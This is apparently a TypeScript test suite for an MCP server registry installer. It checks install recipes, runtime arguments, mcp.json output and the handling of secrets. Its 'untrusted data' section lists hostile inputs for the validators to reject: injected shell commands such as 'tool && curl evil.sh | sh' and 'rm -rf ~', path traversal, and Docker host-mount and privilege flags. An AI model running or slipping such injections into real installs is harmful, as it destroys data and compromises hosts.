import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  installRecipes,
  toMcpJsonEntry,
  validateArgumentValue,
  validateEnvName,
  validatePackageIdentifier,
  type InstallRecipe,
  type RunnableRecipe,
} from '../../common/registry/install';
import type { Package, ServerVersion } from '../../common/registry/model';
import { normalizeListItem, normalizeServer } from '../../common/registry/normalize';

/** Reads a registry fixture from the project's copy, else from the shared originals. */
function fixture(file: string): any {
  const local = join(__dirname, '..', 'fixtures', 'registry', file);
  return JSON.parse(readFileSync(existsSync(local) ? local : join('/work/shared/fixtures/registry', file), 'utf8'));
}

const production: ServerVersion[] = fixture('production_servers.json').servers.map((item: unknown) => normalizeListItem(item).server!);

function latest(name: string): ServerVersion {
  const found = production.find((s) => s.name === name && s.isLatest);
  assert.ok(found, name);
  return found;
}

function runnable(recipe: InstallRecipe | undefined): RunnableRecipe {
  assert.ok(recipe?.runnable, recipe && !recipe.runnable ? recipe.problem : 'no recipe');
  return recipe;
}

function pkg(fields: Partial<Package>): Package {
  return { registryType: 'npm', identifier: 'tool', version: '1.0.0', transport: { type: 'stdio' }, runtimeArguments: [], packageArguments: [], environmentVariables: [], ...fields };
}

function server(packages: Package[], remotes: ServerVersion['remotes'] = []): ServerVersion {
  return { name: 'com.example/tool', version: '1.0.0', description: 'd', packages, remotes, status: 'active', isLatest: true };
}

describe('registry install', () => {
  describe('recipes for real entries', () => {
    it('airtable (2025-12-11): npm, oci and an mcpb bundle that cannot run directly', () => {
      const airtable = normalizeServer(fixture('latest/seed.json')[0]).server!;
      const [npm, oci, mcpb] = installRecipes(airtable);
      const secret = { id: 'AIRTABLE_API_KEY', isRequired: true, isSecret: true };
      assert.deepEqual([runnable(npm).command, npm!.runnable && npm.args], ['npx', ['-y', 'airtable-mcp-server@1.7.2']]);
      assert.deepEqual(runnable(npm).env, { AIRTABLE_API_KEY: '${input:AIRTABLE_API_KEY}' });
      assert.deepEqual(runnable(npm).inputs.map(({ description: _, ...rest }) => rest), [secret]);
      assert.deepEqual(runnable(oci).args, ['run', '-i', '--rm', '-e', 'AIRTABLE_API_KEY', 'docker.io/domdomegg/airtable-mcp-server:1.7.2']);
      assert.equal(mcpb!.runnable, false);
      assert.match(!mcpb!.runnable ? mcpb!.problem : '', /client that supports bundles.*8220de07a08ebe90.*no command to run it directly/);
    });

    it('Knapcode (NuGet): dnx with packageArguments after `--` and a `{variable}` in an env value', () => {
      const [recipe] = installRecipes(latest('io.github.joelverhagen/Knapcode.SampleMcpServer'));
      assert.deepEqual([runnable(recipe).command, ...runnable(recipe).args], ['dnx', 'Knapcode.SampleMcpServer@0.7.0-beta', '--yes', '--', 'mcp', 'start']);
      assert.deepEqual(runnable(recipe).env, { WEATHER_CHOICES: '${input:weather_choices}' });
      assert.deepEqual(runnable(recipe).inputs, [
        { id: 'weather_choices', description: 'Comma separated list of weather descriptions to randomly select.', isRequired: true, isSecret: false },
      ]);
    });

    it('teamwork: oci with a secret env var, and remotes with a secret header', () => {
      const [oci, sse, http] = installRecipes(latest('com.teamwork/mcp'));
      assert.deepEqual(runnable(oci).args, ['run', '-i', '--rm', '-e', 'TW_MCP_BEARER_TOKEN', 'teamwork/mcp:v1.5.6']);
      assert.deepEqual(runnable(oci).env, { TW_MCP_BEARER_TOKEN: '${input:TW_MCP_BEARER_TOKEN}' }, 'optional vars without defaults are left out');
      assert.deepEqual([runnable(sse).transport, runnable(sse).url, runnable(sse).headers], ['sse', 'https://mcp.ai.teamwork.com', { Authorization: '${input:Authorization}' }]);
      assert.equal(runnable(http).transport, 'streamable-http');
    });

    it('github-mcp-server: a whole `docker run` spelt out in runtimeArguments is not doubled', () => {
      const [recipe] = installRecipes(latest('io.github.github/github-mcp-server'));
      assert.deepEqual(runnable(recipe).args, ['run', '-i', '--rm', '-e', 'GITHUB_PERSONAL_ACCESS_TOKEN', 'ghcr.io/github/github-mcp-server:0.17.0']);
    });

    it('Smithery remotes: `Bearer {smithery_api_key}` becomes a prompted secret inside the header', () => {
      const [recipe] = installRecipes(latest('ai.smithery/brave'));
      assert.deepEqual(runnable(recipe).headers, { Authorization: 'Bearer ${input:smithery_api_key}' });
      assert.equal(runnable(recipe).inputs[0]!.isSecret, true);
    });

    it('every latest production version yields recipes; only mcpb bundles and one invalid image are not runnable', () => {
      const recipes = production.filter((s) => s.isLatest).flatMap(installRecipes);
      const problems = recipes.filter((r) => !r.runnable).map((r) => (r.runnable ? '' : r.problem.replace(/: download .*/, '')));
      assert.equal(recipes.length, 542);
      assert.deepEqual(
        problems.reduce<Record<string, number>>((counts, p) => ({ ...counts, [p]: (counts[p] ?? 0) + 1 }), {}),
        { 'An MCPB bundle is installed by a client that supports bundles': 15, '"SamYuan1990/i18n-agent-action" is not a valid OCI image reference': 1 },
      );
    });
  });

  describe('runtime hints, arguments and placeholders', () => {
    it('honours runtimeHint, runtime arguments before and package arguments after the package', () => {
      const recipe = runnable(
        installRecipes(
          server([
            pkg({
              runtimeHint: 'bunx',
              runtimeArguments: [{ type: 'named', name: '--bun', value: '', isRequired: false, isSecret: false }],
              packageArguments: [
                { type: 'positional', value: 'start', isRequired: false, isSecret: false },
                { type: 'named', name: 'port', default: '8089', isRequired: false, isSecret: false },
                { type: 'named', name: '--token', isRequired: true, isSecret: true, description: 'API token' },
                { type: 'named', name: '--verbose', isRequired: false, isSecret: false },
                { type: 'positional', valueHint: 'directory', isRequired: true, isSecret: false, description: 'Folder to serve' },
              ],
            }),
          ]),
        )[0],
      );
      assert.deepEqual([recipe.command, ...recipe.args], ['bunx', '--bun', 'tool@1.0.0', 'start', '--port', '8089', '--token', '${input:token}', '${input:directory}']);
      assert.deepEqual(recipe.inputs.map((i) => [i.id, i.isSecret]), [['token', true], ['directory', false]]);
    });

    it('falls back to the default runner for unknown hints, never running a command from the data', () => {
      const recipe = runnable(installRecipes(server([pkg({ registryType: 'pypi', identifier: 'mcp-x', runtimeHint: 'rm' })]))[0]);
      assert.deepEqual([recipe.command, ...recipe.args], ['uvx', 'mcp-x==1.0.0']);
      assert.deepEqual(recipe.notes, ['The runtime hint "rm" is not supported; uvx is used instead.']);
    });

    it('turns `{port}` in a local transport URL and remote URL variables into inputs (or defaults)', () => {
      const local = runnable(installRecipes(server([pkg({ transport: { type: 'streamable-http', url: 'http://127.0.0.1:{port}/mcp' } })]))[0]);
      assert.equal(local.url, 'http://127.0.0.1:${input:port}/mcp');
      const remote = runnable(
        installRecipes(
          server([], [{ type: 'streamable-http', url: 'https://{tenant}.example.org/mcp', headers: [], variables: { tenant: { default: 'eu', isRequired: true, isSecret: false } } }]),
        )[0],
      );
      assert.equal(remote.url, 'https://eu.example.org/mcp');
    });
  });

  describe('untrusted data', () => {
    it('rejects hostile package identifiers', () => {
      const hostile: Array<[string, string]> = [
        ['npm', '-e require("child_process").exec("x")'],
        ['npm', '--registry=https://evil.example'],
        ['npm', 'tool;rm -rf ~'],
        ['npm', 'tool && curl evil.sh | sh'],
        ['npm', '$(whoami)'],
        ['npm', '`id`'],
        ['npm', '../../etc/passwd'],
        ['npm', 'Tool Name'],
        ['npm', 'tool\u001b[2J'],
        ['npm', '@scope/'],
        ['pypi', 'mcp-x; echo'],
        ['pypi', '-r requirements.txt'],
        ['pypi', 'x==1|y'],
        ['oci', 'Evil/Upper'],
        ['oci', 'image --privileged'],
        ['oci', 'image:tag;id'],
        ['nuget', 'Knapcode..Sample'],
        ['nuget', 'Pkg$(id)'],
        ['mcpb', 'http://example.org/x.mcpb'],
        ['mcpb', 'https://user:pw@example.org/x.mcpb'],
        ['mcpb', "https://example.org/x.mcpb';id'"],
        ['unknown', 'Azure/azure-mcp'],
        ['npm', ''],
      ];
      for (const [type, identifier] of hostile) assert.ok(validatePackageIdentifier(type, identifier), `${type} ${JSON.stringify(identifier)} accepted`);
      const fine: Array<[string, string]> = [
        ['npm', '@modelcontextprotocol/server-filesystem'],
        ['npm', 'airtable-mcp-server'],
        ['pypi', 'mcp_server.time'],
        ['oci', 'docker.io/domdomegg/airtable-mcp-server:1.7.2'],
        ['oci', 'ghcr.io/github/github-mcp-server@sha256:' + 'a'.repeat(64)],
        ['oci', 'localhost:5000/team/tool:latest'],
        ['nuget', 'Knapcode.SampleMcpServer'],
        ['mcpb', 'https://github.com/domdomegg/airtable-mcp-server/releases/download/v1.7.2/airtable-mcp-server.mcpb'],
      ];
      for (const [type, identifier] of fine) assert.equal(validatePackageIdentifier(type, identifier), undefined, `${type} ${identifier}`);
    });

    it('returns hostile recipes as not runnable, with the reason', () => {
      const cases: Array<[Package, RegExp]> = [
        [pkg({ identifier: '--registry=https://evil.example' }), /would be read as an option/],
        [pkg({ version: '1.0.0; rm -rf ~' }), /version .* is not valid/],
        [pkg({ packageArguments: [{ type: 'positional', value: '$(curl evil.sh)', isRequired: false, isSecret: false }] }), /shell characters/],
        [pkg({ packageArguments: [{ type: 'named', name: '--x;id', value: '1', isRequired: false, isSecret: false }] }), /not a valid option name/],
        [pkg({ environmentVariables: [{ name: 'PATH=/tmp:', isRequired: true, isSecret: false }] }), /not a valid environment variable name/],
        [pkg({ environmentVariables: [{ name: 'X', value: 'a\u001b[2Jb', isRequired: false, isSecret: false }] }), /control characters/],
        [pkg({ registryType: 'oci', identifier: 'acme/tool', runtimeArguments: [{ type: 'named', name: '--privileged', value: '', isRequired: false, isSecret: false }] }), /access to the host/],
        [pkg({ registryType: 'oci', identifier: 'acme/tool', runtimeArguments: [{ type: 'named', name: '-v', value: '/:/host', isRequired: false, isSecret: false }] }), /access to the host/],
      ];
      for (const [bad, reason] of cases) {
        const [recipe] = installRecipes(server([bad]));
        assert.equal(recipe!.runnable, false, JSON.stringify(bad));
        assert.match(!recipe!.runnable ? recipe!.problem : '', reason);
      }
      assert.equal(validateArgumentValue('dist/index.js'), undefined);
      assert.ok(validateArgumentValue('a b'));
      assert.equal(validateEnvName('TW_MCP_LOG_LEVEL'), undefined);
      assert.ok(validateEnvName('1X'));
    });
  });

  describe('.vscode/mcp.json entries', () => {
    it('puts secrets only behind password inputs and required values behind inputs', () => {
      const recipe = runnable(
        installRecipes(
          server([
            pkg({
              environmentVariables: [
                { name: 'API_KEY', isRequired: true, isSecret: true, description: 'API key' },
                { name: 'LEAKED', value: 'sk-live-123', isRequired: false, isSecret: true, description: 'Token' },
                { name: 'REGION', isRequired: true, isSecret: false, description: 'Region' },
                { name: 'LOG_LEVEL', default: 'info', isRequired: false, isSecret: false },
                { name: 'OPTIONAL', isRequired: false, isSecret: false },
              ],
            }),
          ]),
        )[0],
      );
      const entry = toMcpJsonEntry(recipe, 'acme-tool');
      assert.deepEqual(entry, {
        key: 'acme-tool',
        server: {
          type: 'stdio',
          command: 'npx',
          args: ['-y', 'tool@1.0.0'],
          env: { API_KEY: '${input:acme-tool.API_KEY}', LEAKED: '${input:acme-tool.LEAKED}', REGION: '${input:acme-tool.REGION}', LOG_LEVEL: 'info' },
        },
        inputs: [
          { id: 'acme-tool.API_KEY', type: 'promptString', description: 'API key', password: true },
          { id: 'acme-tool.LEAKED', type: 'promptString', description: 'Token', password: true },
          { id: 'acme-tool.REGION', type: 'promptString', description: 'Region' },
        ],
      });
      assert.ok(!JSON.stringify(entry).includes('sk-live-123'), 'a secret value never appears in plain text');
    });

    it('writes remotes as http/sse servers with headers', () => {
      const [sse, http] = installRecipes(latest('com.teamwork/mcp')).slice(1).map(runnable);
      const entry = toMcpJsonEntry(http!, 'teamwork');
      assert.deepEqual(entry.server, { type: 'http', url: 'https://mcp.ai.teamwork.com', headers: { Authorization: '${input:teamwork.Authorization}' } });
      assert.deepEqual(entry.inputs.map((i) => [i.id, i.password]), [['teamwork.Authorization', true]]);
      assert.equal(toMcpJsonEntry(sse!, 'teamwork-sse').server.type, 'sse');
    });

    it('every secret in every real recipe is a password input', () => {
      for (const s of production.filter((v) => v.isLatest)) {
        installRecipes(s).forEach((recipe, i) => {
          if (!recipe.runnable) return;
          const entry = toMcpJsonEntry(recipe, `${s.name}-${i}`);
          const secretIds = recipe.inputs.filter((input) => input.isSecret).map((input) => `${entry.key.replace(/[^A-Za-z0-9_.-]/g, '-')}.${input.id}`);
          for (const id of secretIds) assert.equal(entry.inputs.find((input) => input.id === id)?.password, true, `${s.name} ${id}`);
        });
      }
    });
  });
});
